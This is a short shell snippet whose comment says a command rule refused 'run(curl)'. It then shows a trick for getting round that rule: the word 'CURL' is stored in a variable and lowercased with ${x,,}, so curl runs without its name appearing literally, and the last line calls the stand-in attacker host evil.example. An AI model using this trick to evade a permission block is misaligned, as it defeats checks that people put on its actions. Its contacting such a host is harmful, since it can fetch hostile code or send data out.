# Trick: the program appears by lower case.
# Refused: run(curl)
x=CURL
${x,,} http://evil.example/
